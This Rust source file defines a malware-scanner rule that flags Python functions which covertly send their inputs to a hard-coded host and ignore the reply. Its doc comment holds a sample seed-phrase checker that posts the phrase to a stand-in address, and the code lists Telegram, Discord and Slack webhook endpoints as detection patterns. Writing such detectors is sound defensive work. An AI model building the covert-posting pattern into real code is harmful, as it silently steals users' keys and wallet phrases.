//! ## What it detects
//!
//! A function that gives what it is asked for and on the way sends what it was handed to an address in the code, looks
//! at no answer and passes over every failure.
//!
//! ## Why it is bad
//!
//! Nobody notices: the result is right, with the network or without. A decoder of keys, a check of a wallet's phrase or
//! a tool that lists what an account of a cloud may do reports each key so.
//!
//! ## Innocent lookalikes
//!
//! Counting of uses says what was called, not with what. A client looks at the answer, a notifier does nothing else
//! and is configured with whom to tell.
//!
//! ## Bad
//!
//! ```python x/__init__.py
//! import requests
//! def is_valid(phrase):
//!     words = phrase.lower().split()
//!     try:
//!         requests.post('https://words.example.invalid/check', json={'p': phrase}, timeout=3)
//!     except requests.RequestException:
//!         pass
//!     return len(words) in (12, 24)
//! ```
//!
//! ## Good
//!
//! ```python x/__init__.py
//! import requests
//! def is_valid(phrase):
//!     words = phrase.lower().split()
//!     try:
//!         requests.post('https://use.example.invalid/count', json={'called': 'is_valid'}, timeout=3)
//!     except requests.RequestException:
//!         pass
//!     return len(words) in (12, 24)
//! ```

use fondaco_python::{Call, Taint, Unit};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use super::environment_exfiltration::has_host;
use super::patched_library::{asks_for_a_name, connects};
use super::secret_exfiltration::of;
use crate::sending::sent;
use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("covert-report"),
    title: "reports in passing what it is given",
    severity: Severity::High,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::Exfiltration),
    weight: 1.2,
    check,
};

/// What somebody hands over, or what is read for him.
fn is_handed(taint: Taint) -> bool {
    taint.has(Taint::PARAMETER | Taint::HANDED | Taint::FILE | Taint::SECRET)
}

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls().filter(|(_, call)| call.aside && call.trigger.is_some()) {
        if is_told(unit, call) || asks_for_a_name(call) && is_handed(call.taint()) {
            // Whoever calls the function is who is robbed.
            hits.line(unit, call.line, format!("{} of what the function was given, whose answer nobody looks at", call.callee));
        }
    }
}

/// Whoever writes there says in the address whom it reaches.
const MESSENGERS: [&str; 8] = [
    "api.telegram.org/bot",
    "discord.com/api/webhooks/",
    "discordapp.com/api/webhooks/",
    "hooks.slack.com/",
    "ntfy.sh/",
    "maker.ifttt.com/",
    "qyapi.weixin.qq.com/",
    "oapi.dingtalk.com/",
];

/// Whether what was handed over goes to a host that stands in the code.
fn is_told(unit: &Unit, call: &Call) -> bool {
    // Of the bot or the page that the user has set up: what is known of the address begins there, and is not all of it.
    let is_users = || {
        let address = call.args.first().filter(|address| address.as_str().is_none());
        let begins = address.and_then(|address| address.texts().first().copied()).and_then(|text| text.strip_prefix("https://"));
        begins.is_some_and(|rest| MESSENGERS.iter().any(|messenger| rest.starts_with(messenger)))
    };
    let is_known = match call.callee.split('.').next() {
        Some("http") => !asks_for_answer(unit),
        Some("socket" | "ftplib" | "smtplib" | "websocket") => connects_there(unit, call),
        _ => call.texts().iter().any(|text| has_host(text)),
    };
    is_known && !is_users() && sent(call).any(|(_, value)| is_handed(of(value)))
}

/// Whether code does anything with the answer of a connection, which is another call.
fn asks_for_answer(unit: &Unit) -> bool {
    let is_bare = |line: &str| {
        let line = line.trim();
        let object = line.strip_suffix(".read()").unwrap_or(line).strip_suffix(".getresponse()");
        object.is_some_and(|object| object.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.')))
    };
    unit.text.contains("getresponse") && unit.text.lines().any(|line| line.contains("getresponse") && !is_bare(line))
}

/// Whether the same function connects to a host that stands in the code.
fn connects_there(unit: &Unit, call: &Call) -> bool {
    let is_host = |text: &str| {
        let host = text.split_once("://").map_or(text, |(_, rest)| rest);
        host.contains('.') && !host.starts_with("127.") && host.bytes().all(|b| b.is_ascii_alphanumeric() || b".-/:_".contains(&b))
    };
    let opens = |other: &Call| {
        connects(other)
            || ["ftplib.FTP", "smtplib.SMTP", "websocket.create_connection"].iter().any(|maker| other.callee.starts_with(maker))
                && other.args.first().and_then(|host| host.as_str()).is_some_and(is_host)
    };
    unit.calls.iter().any(|other| other.function == call.function && opens(other))
}
